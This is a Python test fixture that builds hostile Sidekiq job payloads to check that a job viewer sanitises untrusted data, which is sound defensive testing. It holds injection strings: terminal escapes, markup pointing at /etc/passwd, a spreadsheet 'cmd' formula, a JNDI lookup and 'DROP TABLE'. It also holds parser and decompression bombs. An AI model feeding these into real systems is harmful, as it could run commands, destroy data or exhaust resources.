"""Job data that tries to break out: into the terminal, the markup, the parser, the layout."""

from __future__ import annotations

import base64
import json
import re
import zlib
from typing import Final

# What must never reach a terminal or a pipe from job data: C0 without tab and line feed, DEL, C1,
# bidi overrides and isolates, zero-width and invisible format characters.
CONTROL_PATTERN: Final = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f\x80-\x9f\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufff9-\ufffb"
    "\U000e0000-\U000e0fff]"
)

HOSTILE_TEXTS: Final = (
    "\x1b[2J\x1b[31mred",
    "\x1b]52;c;aGFja2Vk\x1b\\",
    "\x1b]52;c;aGFja2Vk\x07",
    "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]0;title\x07",
    "\u009b31mC1",
    "\u009d0;osc\u009c",
    "nul\x00byte",
    "bell\x07backspace\x08\x08delete\x7f",
    "carriage\rreturn\nline\tfeed\x0b\x0c",
    "[/]",
    "[bold",
    "[@click=app.quit]x[/]",
    "[link=file:///etc/passwd]x[/link]",
    "\u202ereversed\u202c \u2066isolate\u2069 \u200fmark",
    "zero\u200bwidth\ufeff\u2060joiner",
    "\u2028line\u2029paragraph",
    "漢字かな交じり文",
    "❤️ 1️⃣ 👍🏽 👨‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "e" + "\u0301" * 50,
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "${jndi:ldap://x}",
    "'; DROP TABLE jobs; --",
    "\ud800 lone surrogate",
    "\ufffe\uffff",
    "\x85next line",
)


def _job(**fields: object) -> bytes:
    job = {"class": "HostileJob", "args": [], "jid": "0123456789abcdef01234567", "queue": "hostile"} | fields
    return json.dumps(job, separators=(",", ":")).encode()


def _packed(data: bytes) -> str:
    return base64.b64encode(zlib.compress(data)).decode()


def _text_jobs() -> list[bytes]:
    return [
        _job(
            **{"class": text, "args": [text, {text: text}], "jid": text, "queue": text},
            tags=[text],
            error_class=text,
            error_message=text,
            error_backtrace=[text, text],
            bid=text,
            wrapped=text,
        )
        for text in HOSTILE_TEXTS
    ] + [_job(args=[text], error_message=text, display_class=text) for text in HOSTILE_TEXTS]


_WRONG: Final[tuple[object, ...]] = (None, True, 0, -1, 1.5, 10**400, "text", [], [[]], {}, {"a": []})
_FIELDS: Final = (
    *("class", "wrapped", "display_class", "args", "jid", "queue", "tags", "created_at", "enqueued_at", "failed_at"),
    *(
        "retried_at",
        "retry_count",
        "retry",
        "error_class",
        "error_message",
        "error_backtrace",
        "bid",
        "encrypt",
        "cattr",
    ),
)


def _wrong_type_jobs() -> list[bytes]:
    jobs = [_job(**{field: value}) for field in _FIELDS for value in _WRONG]
    wrapper = "ActiveJob::QueueAdapters::SidekiqAdapter::JobWrapper"
    arguments = [{"arguments": value, "job_class": value} for value in _WRONG]
    return [
        *jobs,
        *(_job(**{"class": wrapper, "wrapped": "X", "args": value}) for value in _WRONG),
        *(
            _job(**{"class": wrapper, "wrapped": "ActionMailer::MailDeliveryJob", "args": [value]})
            for value in arguments
        ),
        *(_job(**{"class": wrapper, "wrapped": "ActionMailer::DeliveryJob", "args": [value]}) for value in arguments),
        *(_job(**{"class": wrapper, "args": [value]}) for value in arguments),
    ]


HOSTILE_PAYLOADS: Final[list[bytes]] = [
    b"",
    b" ",
    b"\x00",
    b"\x80\x04\x95not utf-8\xff\xfe",
    b"\x1b]52;c;aGFja2Vk\x07 not json",
    b"\xc2\x9b31m C1 as UTF-8, not json",
    b"\x9b31m C1 as a byte",
    b"null",
    b"true",
    b"42",
    b'"text"',
    b"[]",
    b"{}",
    b"{",
    b'{"class":"Cut","args":[1,2',
    b'{"class":"Dup","class":"Dup2","args":[],"args":[1]}',
    b'{"class":"Latin\xe9","args":["\xe9\xff"]}',
    b'{"class":"Surrogate","args":["\\ud800","\\udfff\\ud800"]}',
    b'{"class":"NotANumber","args":[NaN,Infinity,-Infinity,1e400]}',
    b'{"class":"Digits","args":[' + b"9" * 6000 + b"]}",
    b'{"class":"Float","args":[1.0e+20,1E-400,-0.0,123456789012345678]}',
    b'{"class":"Deep","args":' + b"[" * 20_000 + b"]" * 20_000 + b"}",
    b'{"class":"DeepObject","args":[' + b'{"a":' * 5_000 + b"1" + b"}" * 5_000 + b"]}",
    b'{"class":"Big","args":["' + b"x" * 1_000_000 + b'"]}',
    b'{"class":"BigEscapes","args":["' + b"\\u001b[31m" * 100_000 + b'"]}',
    b'{"class":"Wide","args":[' + b",".join([b"1"] * 50_000) + b"]}",
    b'{ "class" : "Pretty",\n  "args" : [ 1 ],\n  "jid" : "pretty"\n}',
    b'{"class":"RawEscape","args":["\x1b]52;c;aGFja2Vk\x07"]}',
    _job(error_backtrace=_packed(b'["' + b"x" * 20_000_000 + b'"]')),
    _job(error_backtrace=_packed(b"\x04\x08[\x06I:\x06ET")),
    _job(error_backtrace=_packed(b'["\x1b[2J", 1, null, {"a": []}]')),
    _job(error_backtrace=_packed(b"not json")),
    _job(error_backtrace="bm90IHpsaWI="),
    *_text_jobs(),
    *_wrong_type_jobs(),
]
